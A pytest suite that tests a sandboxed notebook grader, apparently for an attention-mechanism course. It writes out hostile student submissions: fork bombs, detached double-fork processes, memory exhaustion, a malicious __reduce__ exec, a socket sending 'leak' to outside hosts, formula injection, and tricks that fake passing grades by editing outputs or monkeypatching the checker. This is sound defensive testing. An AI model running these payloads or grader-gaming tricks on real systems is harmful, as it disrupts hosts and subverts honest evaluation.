"""The grader end to end, on a synthetic class: honest students (right, wrong, not
attempted, in English and in Chinese, one of them the whole chapter 2 assignment) graded
together with hostile submissions, each of which tries one way to fool the grader, read
what it must not, or outlive its verdict.

Checked: grades.csv holds exactly the expected grade of every honest student (the same
as when they are graded alone), every hostile notebook gets at most its own row wrong,
nothing it started is still running afterwards (from /proc), it reached neither the
network nor another student's file nor the report folder, and report.html opens in
headless Chromium with the network cut (English and Chinese).

The class is small (the chapter 2 exercises in notebooks of a few cells): about a
minute on 2 cores.
"""
from __future__ import annotations

import builtins
import csv
import json
import os
import pathlib
import re
import socket
import sys
import threading
import time
import types

import pytest

from attnlib.grading import assignments
from attnlib.grading.grade import grade_class
from attnlib.grading import course
from attnlib.grading.sandbox import Limits, probe

pytestmark = pytest.mark.slow
ROOT = pathlib.Path(__file__).resolve().parents[1]
REQUIRED = "1" in (os.environ.get("ATTNLIB_REQUIRE_SANDBOX"), os.environ.get("ATTNLIB_REQUIRE_SITE"))
CHAPTER = ROOT / "chapters" / "02_qkv.ipynb"
MARK = "9876543"
CHROMIUM = os.environ.get("ATTNLIB_CHROMIUM") or "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update",
                 "--disable-default-apps", "--disable-sync", "--no-first-run", "--disable-extensions",
                 "--disable-dev-shm-usage", "--mute-audio"]  # in the command line of every process a hostile notebook leaves behind

RIGHT = {
    "softmax": '''def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)''',
    "attention": '''def attention(q, k, v, mask=None):
    s = q @ np.swapaxes(k, -1, -2) / np.sqrt(q.shape[-1])
    if mask is not None:
        s = np.where(mask, s, -np.inf)
    return softmax(s) @ v''',
    "cross_attention": '''def cross_attention(x, y, w_q, w_k, w_v):
    return attention(x @ w_q, y @ w_k, y @ w_v)''',
}
WRONG = {  # each one a catalogued mistake
    "softmax": '''def softmax(x, axis=-1):
    e = np.exp(x)
    return e / np.sum(e, axis=axis, keepdims=True)''',
    "attention": '''def attention(q, k, v, mask=None):
    s = q @ np.swapaxes(k, -1, -2)
    if mask is not None:
        s = np.where(mask, s, -np.inf)
    e = np.exp(s - s.max(-1, keepdims=True))
    return e / e.sum(-1, keepdims=True) @ v''',
    "cross_attention": '''def cross_attention(x, y, w_q, w_k, w_v):
    q, k = x @ w_q, y @ w_k
    s = q @ k.T / np.sqrt(q.shape[-1])
    e = np.exp(s - s.max(-1, keepdims=True))
    return e / e.sum(-1, keepdims=True) @ y''',
}
WRONG_KEYS = {"softmax": "no_max_subtraction", "attention": "no_scaling", "cross_attention": "values_not_projected"}
# the chapter's own answer key (the quizzes are rebalanced from time to time) and, per
# question, a letter that is wrong
KEY = {q.qid: q.answer for q in course.questions(CHAPTER)}
assert len(KEY) >= 3 and all(len(k) == 1 for k in KEY.values()), KEY
NOT_KEY = {q: next(letter for letter in "ABCD" if letter != k) for q, k in KEY.items()}


def _cells(lang: str) -> tuple[dict, list[dict], dict[str, int], dict[str, int]]:
    """The chapter 2 assignment cut down to its setup cell, exercises and answer cells:
    (notebook, cells, exercise -> index, question -> index)."""
    nb, _ = assignments.build(CHAPTER, lang)
    keep = []
    for c in nb["cells"]:
        src = "".join(c["source"])
        if c["cell_type"] == "code" and ("# --- setup" in src or "al.exercises.check(" in src
                                         or "al.assignments.answer(" in src):
            keep.append({**c, "source": src})
    exercises = {re.search(r'check\("(\w+)"', c["source"]).group(1): i for i, c in enumerate(keep)
                 if "al.exercises.check(" in c["source"]}
    questions = {re.search(r'answer\("(q\d+)"', c["source"]).group(1): i for i, c in enumerate(keep)
                 if "al.assignments.answer(" in c["source"]}
    return nb, keep, exercises, questions


def notebook(lang: str = "en", code: dict | None = None, answers: dict | None = None, before: list[str] = (),
             after: list[str] = (), full: bool = False, first: list[str] = ()) -> str:
    """A submission: the stubs replaced by ``code`` ({exercise: source}), the answers
    filled in, extra cells ``first`` (before the setup cell), ``before`` the exercises and
    ``after`` them."""
    nb, cells, exercises, questions = _cells(lang)
    if full:  # the whole assignment, every cell of the chapter
        cells = [{**c, "source": "".join(c["source"])} for c in nb["cells"]]
        exercises = {re.search(r'check\("(\w+)"', c["source"]).group(1): i for i, c in enumerate(cells)
                     if c["cell_type"] == "code" and "al.exercises.check(" in c["source"]}
        questions = {re.search(r'answer\("(q\d+)"', c["source"]).group(1): i for i, c in enumerate(cells)
                     if c["cell_type"] == "code" and "al.assignments.answer(" in c["source"]}
    for name, src in (code or {}).items():
        cells[exercises[name]]["source"] = f'{src}\n\nal.exercises.check("{name}", {name})'
    for q, letter in (answers or {}).items():
        cells[questions[q]]["source"] = f'al.assignments.answer("{q}", "{letter}")'
    start = next(i for i, c in enumerate(cells) if c["cell_type"] == "code") + 1
    extra = lambda src: {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,  # noqa: E731
                         "source": src}
    cells = ([extra(s) for s in first] + cells[:start] + [extra(s) for s in before] + cells[start:]
             + [extra(s) for s in after])
    return json.dumps({**nb, "cells": cells})


def hostile(sub: pathlib.Path, out: pathlib.Path, port: int) -> dict[str, str]:
    """The hostile notebooks: name -> notebook text."""
    alice = sub / "alice.ipynb"
    spin = f"import time\\nwhile True:\\n    pass  # {MARK}"
    linger = f'''import os, subprocess, sys
def leave_behind():
    subprocess.Popen(["sleep", "{MARK}"], start_new_session=True)        # setsid child
    subprocess.Popen([sys.executable, "-c", "{spin}"], start_new_session=True)
    if os.fork() == 0:                                                   # double fork
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "{spin}"])
        os._exit(0)
'''
    out_stored = json.loads(notebook())
    for cell in out_stored["cells"]:  # stubs untouched, outputs edited to claim a pass
        if "al.exercises.check(" in "".join(cell["source"]):
            name = re.search(r'check\("(\w+)"', "".join(cell["source"])).group(1)
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                "data": {"text/plain": f"✓ {name}: passed\n  All 11 cases match the reference.",
                                         "text/html": f'<div class="attnlib-check attnlib-check-passed">✓ {name}: '
                                                      "passed</div>"}}]
    return {
        "h_stored_outputs": json.dumps(out_stored),
        "h_monkeypatch": notebook(code={**WRONG}, before=['''
import numpy, attnlib.exercises as ex
class Passed:
    passed, status, message, mistake, details = True, "passed", "All cases match the reference.", None, {}
ex.check = lambda name, fn, *a, **k: Passed()
try:
    import attnlib.exercises._core as core
    core._compare = lambda *a, **k: (True, "", "")
    core.check = ex.check
except Exception:
    pass
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True'''], answers={"q1": NOT_KEY["q1"]}),
        "h_reader": notebook(code={
            "softmax": f'''import json
def softmax(x, axis=-1):  # steals alice's answer
    nb = json.load(open({str(alice)!r}))
    src = next("".join(c["source"]) for c in nb["cells"] if "def softmax" in "".join(c["source"]))
    ns = {{"np": np, "al": al}}
    exec(src.split("al.exercises.check")[0], ns)
    return ns["softmax"](x, axis)''',
            "attention": '''def attention(q, k, v, mask=None):  # uses the course's reference solution
    import importlib
    return importlib.import_module("attnlib.exercises.catalogue.ch02_qkv").attention_reference(q, k, v, mask)''',
            "cross_attention": f'''def cross_attention(x, y, w_q, w_k, w_v):  # reads the course's chapter
    open({str(CHAPTER)!r}).read()
    return attention(x @ w_q, y @ w_k, y @ w_v)'''},
            before=[f'''
for path in ({str(out)!r} + "/stolen.txt", {str(sub)!r} + "/stolen.txt"):
    try:
        open(path, "w").write("written by a submission")
    except OSError:
        pass''']),
        "h_loop_at_import": notebook(code=RIGHT, before=["while True:\n    pass"]),
        "h_stubborn_loop": notebook(code=RIGHT, before=['''while True:
    try:
        while True:
            pass
    except BaseException:
        pass''']),
        "h_not_json": '{"cells": [ this is not JSON',
        "h_fork_bomb": notebook(code=RIGHT, before=[f'''import os
pids = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            import time
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)  # {MARK}
        pids.append(pid)
except OSError:
    pass''']),
        "h_10gb": notebook(code={**RIGHT, "cross_attention": '''def cross_attention(x, y, w_q, w_k, w_v):
    waste = np.ones(10 * 2**30 // 8)  # 10 GB
    return attention(x @ w_q, y @ w_k, y @ w_v)'''}, before=["big = bytearray(10 * 2**30)"]),
        "h_detached": notebook(code={name: linger + src.replace(
            "):\n", "):\n    if not globals().get('left'):\n        leave_behind()\n        globals()['left'] = 1\n", 1)
            for name, src in RIGHT.items()}, before=[linger + "leave_behind()"]),
        "h_fork_twice": notebook(code={name: src.replace("):\n", "):\n    import os\n    os.fork()\n", 1)
                                       for name, src in RIGHT.items()}),
        "h_write_flood": notebook(code={name: src.replace(
            "):\n", "):\n    import os\n    for _ in range(200):\n        os.write(1, b'x' * 50_000)\n", 1)
            for name, src in RIGHT.items()}),
        "h_reduce": notebook(code={**RIGHT, "softmax": '''class Evil:
    def __reduce__(self):
        import numpy
        return (exec, ("import numpy; numpy.allclose = lambda *a, **k: True; "
                       "open('/tmp/attnlib-pwned', 'w').write('pwned')",))
    def __array__(self, *a, **k):
        raise TypeError("no")
def softmax(x, axis=-1):
    return Evil()'''}),
        "h_network": notebook(code={**RIGHT, "softmax": f'''import socket
def softmax(x, axis=-1):
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            socket.create_connection((host, {port}), timeout=2).sendall(b"leak")
        except OSError:
            pass
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)'''}),
        "h_exit": notebook(code=RIGHT, after=["import os\nos._exit(3)"]),
        "h_setsid_first": notebook(code=RIGHT, answers={"q1": KEY["q1"]}, first=[f'''import os
if os.fork() == 0:
    os.setsid()
    while True:
        pass  # {MARK}''']),
    }


HONEST = {
    "alice": ("en", RIGHT, KEY, False),
    "bob": ("en", WRONG, {"q1": NOT_KEY["q1"], "q3": KEY["q3"]}, False),
    "carol": ("zh", {}, {}, False),
    "dan": ("zh", RIGHT, {"q1": KEY["q1"].lower(), "q2": KEY["q2"], "q3": NOT_KEY["q3"]}, True),  # the whole chapter, in Chinese
}


def expected(student: str) -> dict[str, str]:
    lang, code, answers, _ = HONEST[student]
    row = {n: ("passed" if code is RIGHT else WRONG_KEYS[n] if code is WRONG else "not_attempted")
           for n in RIGHT}
    for q, key in KEY.items():
        given = course.normalise_answer(answers.get(q, ""))
        row[q] = "correct" if given == key else (f"wrong:{given}" if given else "not_answered")
    return row


@pytest.fixture(scope="module")
def port():
    """A TCP server on this machine's loopback; a submission must never reach it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    hits, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                pass
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield server.getsockname()[1], hits
    stop.set()
    t.join()
    server.close()


def _leftovers() -> list[str]:
    found = []
    for d in pathlib.Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                cmd = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if MARK in cmd and "pytest" not in cmd:
                found.append(f"{d.name}: {cmd[:100]}")
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory, port):
    if probe().mode == "none":
        (pytest.fail if REQUIRED else pytest.skip)("no namespaces here: the hostile tests need the sandbox (run as root, or where "
                    "unprivileged user namespaces are allowed)")
    base = tmp_path_factory.mktemp("class")
    sub, out = base / "submissions", base / "report"
    sub.mkdir()
    for student, (lang, code, answers, full) in HONEST.items():
        (sub / f"{student}.ipynb").write_text(notebook(lang, code, answers, full=full), encoding="utf-8")
    for name, text in hostile(sub, out, port[0]).items():
        (sub / f"{name}.ipynb").write_text(text, encoding="utf-8")
    pathlib.Path("/tmp/attnlib-pwned").unlink(missing_ok=True)
    t0 = time.monotonic()
    grades = grade_class(sub, out, chapter="2", lang="en", jobs=2, quiet=True,
                         limits=Limits(wall=60, cell=10, memory=3 * 2**30))
    seconds = time.monotonic() - t0
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
    return {"grades": {g.student: g for g in grades}, "rows": rows, "out": out, "sub": sub,
            "seconds": seconds, "hits": port[1], "leftovers": _leftovers()}


class _Measured(float):
    """Stands in for an array measured earlier in the chapter: 0.5, and so are its
    methods' results (quiz feedback quotes such numbers: ``{own_on_top.min():.0%}``)."""

    def __getattr__(self, name):
        return lambda *args, **kwargs: _Measured(0.5)

    def __getitem__(self, index):
        return self


class _AnyNumber(dict):
    """Locals in which a name the cell did not define reads as a ``_Measured``."""

    def __missing__(self, name):
        if hasattr(builtins, name):
            raise KeyError(name)
        return _Measured(0.5)


def test_the_answer_key_is_the_one_the_chapter_marks_right():
    # KEY comes from the grader's reader of quiz cells; run those cells instead, with a
    # stand-in for al.quiz.question that records its choices, and compare
    recorded = []
    al = types.SimpleNamespace(quiz=types.SimpleNamespace(
        question=lambda prompt, choices, *a, **k: recorded.append(choices)))
    for cell in json.loads(CHAPTER.read_text(encoding="utf-8"))["cells"]:
        if cell["cell_type"] == "code" and "al.quiz.question(" in "".join(cell["source"]):
            exec("".join(cell["source"]), {}, _AnyNumber(al=al))  # measured numbers in the feedback
    marked = ["".join("ABCDEFGH"[i] for i, choice in enumerate(choices) if choice[1] is True)
              for choices in recorded]
    assert marked == [KEY[f"q{i + 1}"] for i in range(len(KEY))] and len(marked) == len(KEY)


# ------------------------------------------------------------------ the honest students

@pytest.mark.parametrize("student", sorted(HONEST))
def test_honest_students_get_their_grade(graded, student):
    row = graded["rows"][student]
    got = {k: row[k] for k in expected(student)}
    assert got == expected(student), graded["grades"][student]


def test_honest_grades_match_grading_them_alone(graded, tmp_path):
    sub = tmp_path / "alone"
    sub.mkdir()
    for student in ("alice", "bob"):
        (sub / f"{student}.ipynb").write_bytes((graded["sub"] / f"{student}.ipynb").read_bytes())
    alone = {g.student: g for g in grade_class(sub, tmp_path / "out", chapter="2", jobs=2, quiet=True,
                                               limits=Limits(wall=60, cell=10))}
    for student in ("alice", "bob"):
        together = graded["grades"][student]
        for name, g in alone[student].exercises.items():
            assert (g.status, g.mistake, g.message) == (together.exercises[name].status,
                                                       together.exercises[name].mistake,
                                                       together.exercises[name].message)


def test_named_mistake_messages_come_from_the_checker(graded):
    from attnlib.exercises import EXERCISES
    bob = graded["grades"]["bob"]
    for name, key in WRONG_KEYS.items():
        m = EXERCISES[name].mistake(key)
        assert m.title in bob.exercises[name].message


# ------------------------------------------------------------------ the hostile ones

def _row(graded, name):
    return graded["rows"][name]


def test_an_edited_stored_output_does_not_pass(graded):
    row = _row(graded, "h_stored_outputs")
    assert [row[n] for n in RIGHT] == ["not_attempted"] * 3


def test_a_monkeypatched_checker_does_not_pass(graded):
    row = _row(graded, "h_monkeypatch")
    assert [row[n] for n in RIGHT] == [WRONG_KEYS[n] for n in RIGHT]
    assert row["q1"] == f"wrong:{NOT_KEY['q1']}"


def test_a_notebook_cannot_read_other_files_or_write_the_report(graded):
    row = _row(graded, "h_reader")
    assert [row[n] for n in RIGHT] == ["failed"] * 3, graded["grades"]["h_reader"].exercises
    messages = " ".join(e.message for e in graded["grades"]["h_reader"].exercises.values())
    assert "FileNotFoundError" in messages and "ModuleNotFoundError" in messages
    assert not (graded["out"] / "stolen.txt").exists() and not (graded["sub"] / "stolen.txt").exists()


def test_an_infinite_loop_at_import_costs_one_cell(graded):
    g = graded["grades"]["h_loop_at_import"]
    assert [_row(graded, "h_loop_at_import")[n] for n in RIGHT] == ["passed"] * 3
    assert g.cell_timeouts, "the looping cell was not stopped by the cell time limit"


def test_a_loop_that_swallows_the_interrupt_times_out_its_own_row(graded):
    assert [_row(graded, "h_stubborn_loop")[n] for n in RIGHT] == ["timed_out"] * 3


def test_a_file_that_is_not_json_is_an_error_row(graded):
    row = _row(graded, "h_not_json")
    assert "not valid JSON" in row["problem"]


def test_a_fork_bomb_costs_only_its_own_row(graded):
    assert [_row(graded, "h_fork_bomb")[n] for n in RIGHT] == ["passed"] * 3


def test_a_10_gb_allocation_fails_inside_its_sandbox(graded):
    g = graded["grades"]["h_10gb"]
    assert g.exercises["cross_attention"].status == "failed"
    assert "MemoryError" in g.exercises["cross_attention"].message
    assert [g.exercises[n].status for n in ("softmax", "attention")] == ["passed", "passed"]
    assert any("MemoryError" in e["error"] for e in g.cell_errors)


def test_detached_children_do_not_survive_the_verdict(graded):
    assert [_row(graded, "h_detached")[n] for n in RIGHT] == ["passed"] * 3
    assert graded["leftovers"] == []
    assert all(not g.survivors for g in graded["grades"].values())


def test_a_fork_that_returns_twice_does_not_shift_the_answers(graded):
    assert [_row(graded, "h_fork_twice")[n] for n in RIGHT] == ["passed"] * 3


def test_writes_to_fd_1_are_cut_and_do_not_break_grading(graded):
    g = graded["grades"]["h_write_flood"]
    assert [g.exercises[n].status for n in RIGHT] == ["passed"] * 3
    assert len(g.output) <= 5000


def test_a_returned_object_with_a_malicious_reduce_runs_nothing(graded):
    g = graded["grades"]["h_reduce"]
    assert g.exercises["softmax"].status == "failed" and g.exercises["softmax"].problem == "type"
    assert not pathlib.Path("/tmp/attnlib-pwned").exists()
    import numpy
    assert numpy.allclose.__module__.startswith("numpy")


def test_no_network_from_a_submission(graded):
    assert graded["hits"] == []
    assert _row(graded, "h_network")["softmax"] == "passed"


def test_a_detached_spinner_in_the_first_cell_costs_nothing_else(graded):
    """Issue 27's probe: a first cell that forks a child which calls setsid and spins; the
    honest answers after it are graded (they were all "not_attempted"), the spinner is gone."""
    row = _row(graded, "h_setsid_first")
    assert [row[n] for n in RIGHT] == ["passed"] * 3 and row["q1"] == "correct", graded["grades"]["h_setsid_first"]
    assert graded["leftovers"] == [] and not graded["grades"]["h_setsid_first"].survivors


def test_os_exit_in_a_cell_costs_only_its_own_row(graded):
    assert [_row(graded, "h_exit")[n] for n in RIGHT] == ["error"] * 3


def test_the_class_is_graded_in_about_a_minute(graded):
    # 17 notebooks on 2 cores; the stubborn loop alone waits out its 45 s
    print(f"\nsynthetic class of {len(graded['rows'])} notebooks graded in {graded['seconds']:.0f} s")
    assert graded["seconds"] < 240


# ------------------------------------------------------------------ the report

def test_grades_csv_has_a_row_per_notebook_and_a_column_per_exercise(graded):
    rows = graded["rows"]
    assert len(rows) == len(HONEST) + 15
    first = next(iter(rows.values()))
    assert list(first)[:5] == ["student", "file", "chapter", "passed", "exercises"]
    assert [c for c in first if c in RIGHT] == list(RIGHT)


@pytest.fixture(scope="module")
def chromium():
    if not os.path.exists(CHROMIUM):
        (pytest.fail if REQUIRED else pytest.skip)(f"Chromium not found at {CHROMIUM}: run `make chromium`")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


def _open_offline(browser, path: pathlib.Path):
    page = browser.new_page()
    errors, requests = [], []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))

    def route(r):
        if r.request.url.startswith("file://"):
            r.continue_()
        else:
            requests.append(r.request.url)
            r.abort()
    page.route("**/*", route)
    page.goto(path.as_uri())
    return page, errors, requests


def test_report_opens_offline_in_chromium(graded, chromium):
    page, errors, requests = _open_offline(chromium, graded["out"] / "report.html")
    assert errors == [] and requests == []
    assert page.locator("svg.chart").count() == 2  # pass rates, named mistakes
    assert page.locator("svg.chart rect").count() > 10
    text = page.inner_text("body")
    for student in ("alice", "bob", "carol", "dan", "h_reader"):
        assert student in text
    bob = page.locator("details.student", has_text="bob")
    bob.locator("summary").click()
    assert "no_max_subtraction" in bob.inner_text()
    page.close()


def test_chinese_report_opens_offline_in_chromium(graded, chromium, tmp_path):
    sub = tmp_path / "zh"
    sub.mkdir()
    for student in ("bob", "carol"):
        (sub / f"{student}.ipynb").write_bytes((graded["sub"] / f"{student}.ipynb").read_bytes())
    grade_class(sub, tmp_path / "out", chapter="2", lang="zh", jobs=2, quiet=True, limits=Limits(wall=60, cell=10))
    page, errors, requests = _open_offline(chromium, tmp_path / "out" / "report.html")
    assert errors == [] and requests == []
    text = page.inner_text("body")
    assert page.get_attribute("html", "lang") == "zh-CN"
    for word in ("练习", "学生", "检查器"):
        assert word in text
    english = [w for w in ("Exercises", "Students", "Mistakes the checker named") if w in text]
    assert not english, f"English left in the Chinese report: {english}"
    page.close()


# ------------------------------------------------------------------ other isolation modes

@pytest.fixture
def pair(tmp_path):
    """Two notebooks of the class: alice (right) and the one that reads other files."""
    sub = tmp_path / "pair"
    sub.mkdir()
    (sub / "alice.ipynb").write_text(notebook("en", RIGHT, KEY), encoding="utf-8")
    (sub / "h_reader.ipynb").write_text(hostile(sub, tmp_path / "out", 1)["h_reader"], encoding="utf-8")
    return sub


def test_in_a_user_namespace_the_sandbox_isolates_the_same(pair, tmp_path, monkeypatch):
    """The mode a grader run by a normal user gets (forced here; as root it maps root to
    itself, without capabilities): the same grades."""
    from attnlib.grading import sandbox
    iso = sandbox.probe()
    if iso.mode == "none":
        pytest.skip("no namespaces here")
    ok, why = sandbox.try_bwrap(user_namespace=True)
    if not ok:
        (pytest.fail if REQUIRED else pytest.skip)(f"user namespaces are not allowed here: {why}")
    monkeypatch.setitem(sandbox._PROBED, "iso", sandbox.Isolation("userns", True, True, True, True, ""))
    monkeypatch.setattr(sandbox.Sandbox, "__post_init__", _userns_post_init(sandbox.Sandbox.__post_init__))
    grades = {g.student: g for g in grade_class(pair, tmp_path / "out", chapter="2", jobs=2, quiet=True,
                                                 limits=Limits(wall=60, cell=10))}
    assert [grades["alice"].exercises[n].status for n in RIGHT] == ["passed"] * 3
    assert [grades["h_reader"].exercises[n].status for n in RIGHT] == ["failed"] * 3
    assert not any(g.survivors for g in grades.values())


def _userns_post_init(original):
    def post_init(self):
        original(self)
        self.uid = None  # what a normal user's grader has: no uid of its own to give
    return post_init


def test_without_namespaces_the_grader_says_what_is_missing(pair, tmp_path, monkeypatch, capsys):
    from attnlib.grading import sandbox
    none = sandbox.Isolation("none", False, False, False, False, "", "bwrap is not installed (simulated)")
    monkeypatch.setitem(sandbox._PROBED, "iso", none)  # a normal user's grader where namespaces are refused:
    monkeypatch.setattr(sandbox.Sandbox, "__post_init__", _userns_post_init(sandbox.Sandbox.__post_init__))
    with pytest.raises(SystemExit) as stop:
        grade_class(pair, tmp_path / "refused", chapter="2", require_isolation=True)
    assert stop.value.code == 2 and not (tmp_path / "refused" / "grades.csv").exists()
    err = capsys.readouterr().err
    assert "no network namespace" in err and "no private filesystem" in err and "no PID namespace" in err
    sub = tmp_path / "alice"
    sub.mkdir()
    (sub / "alice.ipynb").write_bytes((pair / "alice.ipynb").read_bytes())
    grades = grade_class(sub, tmp_path / "out", chapter="2", jobs=1, quiet=True, limits=Limits(wall=60, cell=10))
    assert [grades[0].exercises[n].status for n in RIGHT] == ["passed"] * 3  # still graded, with limits
    report = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "Isolation missing on this machine" in report and "no network namespace" in report


def test_the_survivor_search_never_targets_the_graders_own_processes():
    from attnlib.grading.sandbox import survivors
    own = os.readlink("/proc/self/ns/pid")
    with pytest.raises(ValueError):
        survivors(own, None, "token")
    with pytest.raises(ValueError):
        survivors(None, os.getuid(), "token")
    assert survivors(None, None, "no-such-token") == []


# ------------------------------------------------------------------ an extra check (chapter 7)

TILED = '''def tiled_attention(q, k, v, block_size):
    L, E = q.shape
    m, l, acc = np.full(L, -np.inf), np.zeros(L), np.zeros((L, v.shape[1]))
    for s in range(0, k.shape[0], block_size):
        scores = q @ k[s:s + block_size].T / np.sqrt(E)
        m_new = np.maximum(m, scores.max(1))
        p, c = np.exp(scores - m_new[:, None]), np.exp(m - m_new)
        l, acc, m = l * c + p.sum(1), acc * c[:, None] + p @ v[s:s + block_size], m_new
    return acc / l[:, None]'''
UNTILED = '''def tiled_attention(q, k, v, block_size):
    s = q @ k.T / np.sqrt(q.shape[1])
    e = np.exp(s - s.max(1, keepdims=True))
    return e / e.sum(1, keepdims=True) @ v'''


def test_the_extra_check_travels_without_the_reference():
    from attnlib.exercises import EXERCISES
    from attnlib.grading.judge import extra_check_payload
    ex = EXERCISES["tiled_attention"]
    blob = extra_check_payload("tiled_attention")
    assert b"_peak_growth" in blob  # the check's own helper travels with it
    secret = {ex.reference.__name__} | {m.fn.__name__ for m in ex.mistakes if callable(m.fn)}
    assert not [name for name in secret if name.encode() in blob], secret


def test_an_extra_check_runs_in_the_sandbox(tmp_path):
    if probe().mode == "none":
        pytest.skip("no namespaces here")
    sub = tmp_path / "ch7"
    sub.mkdir()
    for name, code in (("tiled", TILED), ("untiled", UNTILED)):
        cells = ["import numpy as np\nimport attnlib as al", code + '\nal.exercises.check("tiled_attention", tiled_attention)']
        nb = {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": c}
                        for c in cells], "metadata": {"attnlib": {"chapter": "07_cost"}},
              "nbformat": 4, "nbformat_minor": 4}
        (sub / f"{name}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    grades = {g.student: g for g in grade_class(sub, tmp_path / "out", jobs=2, quiet=True,
                                                 limits=Limits(wall=120, cell=10))}
    assert grades["tiled"].exercises["tiled_attention"].status == "passed"
    assert grades["untiled"].exercises["tiled_attention"].mistake == "full_score_matrix"


def test_a_file_name_cannot_become_a_spreadsheet_formula(tmp_path):
    from attnlib.grading.notebook import NotebookGrade
    from attnlib.grading.report import write_csv
    write_csv([NotebookGrade("=HYPERLINK(\"http://x\")", "=cmd.ipynb", problem="-1")], tmp_path / "g.csv")
    row = next(csv.DictReader(open(tmp_path / "g.csv", encoding="utf-8")))
    assert row["student"].startswith("'=") and row["file"].startswith("'=") and row["problem"] == "'-1"


def test_a_python_installation_under_tmp_is_seen_inside_the_sandbox(tmp_path, monkeypatch):
    """The sandbox's private /tmp is mounted before the root's read-only binds, so a checkout
    (and its .venv) under /tmp is bound on top of it rather than hidden by it (a clean clone
    in /tmp could not start the sandbox: 'bwrap: execvp .../.venv/bin/python: No such file')."""
    from attnlib.grading import sandbox

    prefix = tmp_path / "venv"
    prefix.mkdir()
    assert str(prefix).startswith("/tmp/"), "pytest's tmp_path is not under /tmp here"
    monkeypatch.setattr(sys, "prefix", str(prefix))
    args = sandbox.root_layout([], mounted=("/tmp",))
    binds = [args[i + 1] for i, a in enumerate(args) if a == "--ro-bind"]
    made = [args[i + 1] for i, a in enumerate(args) if a == "--dir"]
    assert str(prefix) in binds
    assert "/tmp" not in made            # the private /tmp (1777) is not made again as 0755
    assert str(prefix.parent) in made    # the folders between /tmp and the installation are
